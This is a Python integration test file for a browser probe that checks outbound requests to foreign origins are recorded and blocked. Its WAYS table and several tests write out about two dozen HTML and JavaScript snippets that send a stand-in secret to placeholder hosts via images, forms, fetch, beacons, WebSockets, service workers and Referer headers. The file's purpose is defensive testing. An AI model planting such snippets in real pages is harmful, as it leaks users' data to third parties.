"""A real browser behind the fence: every way out is noted, and nobody foreign is ever connected to."""

from collections.abc import Iterator

import pytest

from probes.browser.paging import BrowserHttp
from probes.browser.watch import Watch
from probes.errors import TargetAway
from probes.redaction import Redactor
from probes.transports.port import Request
from tests.probes.browser.foreign import SECRET
from tests.probes.browser.staging import Stage, found, staged

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    with staged(tmp_path_factory.mktemp("stage")) as made:
        yield made


WAYS = {
    "picture": '<img src="@OTHER@/p.gif?u=@MAIL@">',
    "picture of another name": '<img src="https://tracker.example/p.gif?u=@MAIL@">',
    "style": '<p style="background:url(@OTHER@/@MAIL@.png)">x</p>',
    "frame": '<iframe src="@OTHER@/f?u=@MAIL@"></iframe>',
    "script": '<script src="@OTHER@/s.js?u=@MAIL@"></script>',
    "font": "<style>@font-face{font-family:f;src:url(@OTHER@/f.woff?u=@MAIL@)}p{font-family:f}</style><p>x</p>",
    "prefetch": '<link rel="prefetch" href="@OTHER@/n?u=@MAIL@">',
    "form in a frame": '<form id="f" method="post" action="@OTHER@/" target="t"><input name="u" value="@MAIL@"></form>'
    '<iframe name="t"></iframe><script>document.getElementById("f").submit()</script>',
    "multipart form": '<form id="f" method="post" enctype="multipart/form-data" action="@OTHER@/" target="t">'
    '<input name="u" value="@MAIL@"></form><iframe name="t"></iframe>'
    '<script>document.getElementById("f").submit()</script>',
    "fetch": '<script>fetch("@OTHER@/", {method: "POST", body: JSON.stringify({u: "@MAIL@"})}).catch(() => 0)</script>',
    "fetch with a header": '<script>fetch("@OTHER@/", {headers: {"X-User": "@MAIL@"}}).catch(() => 0)</script>',
    "keepalive": '<script>fetch("@OTHER@/", {method: "POST", keepalive: true, body: "@MAIL@"}).catch(() => 0)</script>',
    "old request": '<script>const x = new XMLHttpRequest(); x.open("POST", "@OTHER@/"); x.send("@MAIL@")</script>',
    "beacon": '<script>navigator.sendBeacon("@OTHER@/", "@MAIL@")</script>',
    "beacon of a blob": '<script>navigator.sendBeacon("@OTHER@/", new Blob(["@MAIL@"]))</script>',
    "socket": '<script>const w = new WebSocket("ws://tracker.example/"); w.onopen = () => w.send("@MAIL@")</script>',
    "event stream": '<script>new EventSource("@OTHER@/e?u=@MAIL@")</script>',
    "cookie of the same host": '<script>document.cookie = "u=@MAIL@"</script><img src="@OTHER@/p.gif">',
    "beacon on leaving": '<script>addEventListener("pagehide", () => '
    'navigator.sendBeacon("@OTHER@/", "@MAIL@"))</script>',
    "blob on leaving": '<script>addEventListener("pagehide", () => '
    'navigator.sendBeacon("@OTHER@/", new Blob(["@MAIL@"])))</script>',
    "fetch on being hidden": '<script>document.addEventListener("visibilitychange", () => '
    'fetch("@OTHER@/", {method: "POST", keepalive: true, body: "@MAIL@"}))</script>',
    "later than the page": '<script>setTimeout(() => { new Image().src = "@OTHER@/?u=@MAIL@" }, 150)</script>',
}


@pytest.mark.parametrize("way", WAYS)
def test_each_way_out_is_noted_and_nobody_is_connected_to(way: str, stage: Stage) -> None:
    foreign = stage.visit(page=WAYS[way])
    assert stage.other.connections == 0
    assert found(foreign), foreign
    assert all(request.bodied and request.stopped for request in foreign)


def test_a_redirect_to_a_foreign_origin_is_noted_and_not_followed(stage: Stage) -> None:
    foreign = stage.visit(page='<img src="/away">', away="@OTHER@/?u=@MAIL@")
    assert "/away" in stage.own.asked
    assert stage.other.connections == 0
    assert [request.url for request in foreign] == [f"{stage.other.origin}/?u={SECRET}"]


def test_a_service_worker_s_requests_are_noted_and_stopped(stage: Stage) -> None:
    asks = 'fetch("@OTHER@/", {method: "POST", body: "@MAIL@"}).catch(() => 0)'
    worker = f'self.addEventListener("install", () => {asks})'
    page = '<script>navigator.serviceWorker.register("/worker.js")</script>'
    assert found(stage.visit(page=page, **{"worker.js": worker})) == ["body"]
    assert stage.other.connections == 0


def test_the_referer_that_a_page_lets_go_is_noted(stage: Stage) -> None:
    page = """<meta name="referrer" content="unsafe-url"><script>
    history.replaceState(0, "", "/o?u=@MAIL@"); new Image().src = "@OTHER@/p.gif"</script>"""
    assert found(stage.visit(page=page)) == ["header Referer"]


def test_what_stays_at_home_is_no_disclosure(stage: Stage) -> None:
    page = '<img src="/p.gif?u=@MAIL@"><a href="@OTHER@/?u=@MAIL@">x</a><img src="data:image/gif;base64,AAAA">'
    assert stage.visit(page=page) == []
    assert "/p.gif?u=" + SECRET in stage.own.asked


def test_a_shop_that_is_away_is_the_target_s_fault(stage: Stage) -> None:
    context = stage.browser.new_context()
    http = BrowserHttp(context, Watch(context, stage.look.target), Redactor(), None)
    with pytest.raises(TargetAway):
        http.send(Request(method="GET", url="http://127.0.0.1:1/"), deadline=stage.look.deadline)
    context.close()
